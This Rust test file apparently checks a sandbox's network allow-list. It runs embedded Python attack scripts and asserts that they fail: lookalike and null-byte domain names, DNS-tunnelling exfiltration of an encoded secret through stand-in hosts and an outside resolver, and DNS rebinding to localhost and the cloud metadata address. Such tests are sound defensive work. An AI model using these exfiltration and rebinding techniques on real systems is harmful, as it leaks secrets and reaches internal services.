//! Attacks by names: such as mean another host than they seem to, and such as carry data out in questions.

use crate::ground::Ground;
use support::internet::{HIDDEN, WEB, WEB_V4};

/// Names of the test's name server that lead to the web server, which are denied.
const DENIED: [&str; 7] = [
    "example.com",
    "evilexample.com",
    "www.example.com.hidden.example.net",
    "hidden.example.net",
    "www.example.comm",
    "xn--www-4id.example.net",
    "www-example.com",
];

#[test]
fn names_that_look_like_allowed_ones() {
    for ground in Ground::all() {
        DENIED.iter().for_each(|name| ground.internet.name(name, &[WEB_V4]));
        let script = format!(
            r#"
for name in {DENIED:?}:
    assert b"Hello" not in ask(name, 80, get(name)), name
    assert b"Hello" not in ask(name, 80, get(WEB)), name
    assert b"Hello" not in ask(name + ".", 80, get(WEB)), name
works()
"#
        );
        let _ = ground.attack(&["--allow", "*.example.com"], &script);
        ground.only(&[WEB]);
        ground.told("not-allowed");
        let asked = ground.internet.queries();
        assert!(asked.iter().all(|query| query.name == WEB), "{asked:#?}");
    }
}

#[test]
fn names_with_bytes_that_none_has() {
    for ground in Ground::all() {
        for name in ["www.example.com", "www", "hidden.example.net"] {
            ground.internet.name(name, &[WEB_V4]);
        }
        let script = r#"
names = [
    [b"hidden", b"example", b"net\0", b"www", b"example", b"com"],
    [b"hidden.example.net\0", b"www", b"example", b"com"],
    [b"hidden.example.net", b"example", b"com"],
    [b"www.example.com"],
    [b"hidden", b"example", b"net", b"\0www", b"example", b"com"],
    [b"www", b"example", b"com\0"],
    [b"hidden example.net", b"example", b"com"],
    [b"hidden/", b"example", b"com"],
    [b"a@hidden", b"example", b"com"],
    [b"hidden:80", b"example", b"com"],
    [b"*", b"example", b"com"],
    [b"-x", b"example", b"com"],
    [b"w\xc5\xb5w", b"example", b"com"],
    "ⓦⓦⓦ.example.com".encode().split(b"."),
    "www。example.com".encode().split(b"."),
    "www.example.com\u212a".encode().split(b"."),
    [b"a" * 63, b"b" * 63, b"c" * 63, b"d" * 50, b"example", b"com"],
]
for name in names:
    code, count, address = lookup(name)
    if not count:
        continue
    answer = ask(address, 80, get(HIDDEN)) + ask(address, 80, get(WEB))
    assert b"Hello" not in answer, (name, answer)
works()
"#;
        let _ = ground.attack(&["--allow", "*.example.com", "--allow", "example.com"], script);
        ground.only(&[WEB]);
        let plain = |name: &str| name.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte));
        let asked = ground.internet.queries();
        assert!(asked.iter().all(|query| plain(&query.name) && query.name != HIDDEN), "{asked:#?}");
    }
}

#[test]
fn names_in_another_case_are_the_same() {
    for ground in Ground::all() {
        let script = r#"
addresses = {lookup(name.encode().split(b"."))[2] for name in ["www.example.com", "WWW.EXAMPLE.COM", "wWw.ExAmPlE.cOm"]}
assert len(addresses) == 1, addresses
assert b"Hello from www" in ask(addresses.pop(), 80, get(WEB))
"#;
        let _ = ground.attack(&["--allow", WEB], script);
    }
}

#[test]
fn questions_carry_nothing_out() {
    for ground in Ground::all() {
        let datagrams = ground.internet.datagrams("8.8.8.8:53");
        let stream = ground.canary("8.8.8.8:53");
        let script = r#"
import base64
secret = base64.b32encode(b"a secret that must not get out").strip(b"=").lower()
for suffix in HIDDEN, "tunnel.example.com", WEB, "tunnel.example.org":
    name = [secret, *suffix.encode().split(b".")]
    for kind in 1, 28, 16, 15, 33, 5, 12, 10, 65, 255:
        for tcp in False, True:
            try:
                lookup(name, kind, tcp=tcp)
            except OSError:
                pass
    for family in socket.AF_INET, socket.AF_INET6, 0:
        try:
            socket.getaddrinfo(b".".join(name).decode(), 80, family)
        except OSError:
            pass
# To a name server outside.
for tcp in False, True:
    try:
        lookup([secret, *HIDDEN.encode().split(b".")], server="8.8.8.8", tcp=tcp)
    except (OSError, IndexError):
        pass
works()
"#;
        // A wildcard allows to connect to names below it: still, no question goes out before somebody connects.
        let _ = ground.attack(&["--allow", "*.example.com"], script);
        let asked = ground.internet.queries();
        assert!(!asked.is_empty() && asked.iter().all(|query| query.name == WEB), "{asked:#?}");
        datagrams.set_nonblocking(true).unwrap();
        assert!(datagrams.recv(&mut [0; 512]).is_err());
        assert_eq!(stream.count(), 0);
    }
}

#[test]
fn a_name_that_is_bound_anew() {
    for ground in Ground::all() {
        let own = ground.canary("127.0.0.1:80");
        let public = ground.canary("8.8.8.8:80");
        let name = "rebind.example.com";
        let script = r#"
name = "rebind.example.com"
assert b"canary" in ask(name, 80, get(name))
for _ in range(4):
    time.sleep(0.3)
    ask(name, 80, get(name))
"#;
        ground.internet.name_in_turn(name, &[&["8.8.8.8"], &["127.0.0.1"]]);
        let _ = ground.attack(&["--allow", name], script);
        assert!(public.count() >= 1);
        assert_eq!(own.count(), 0);
        ground.told("private-address");
        // Among others, it is left out.
        let before = public.count();
        ground.internet.name(name, &["127.0.0.1", "8.8.8.8", "169.254.169.254"]);
        let _ = ground.attack(&["--net", "open"], script);
        assert_eq!(public.count(), before + 5);
        assert_eq!(own.count(), 0);
    }
}
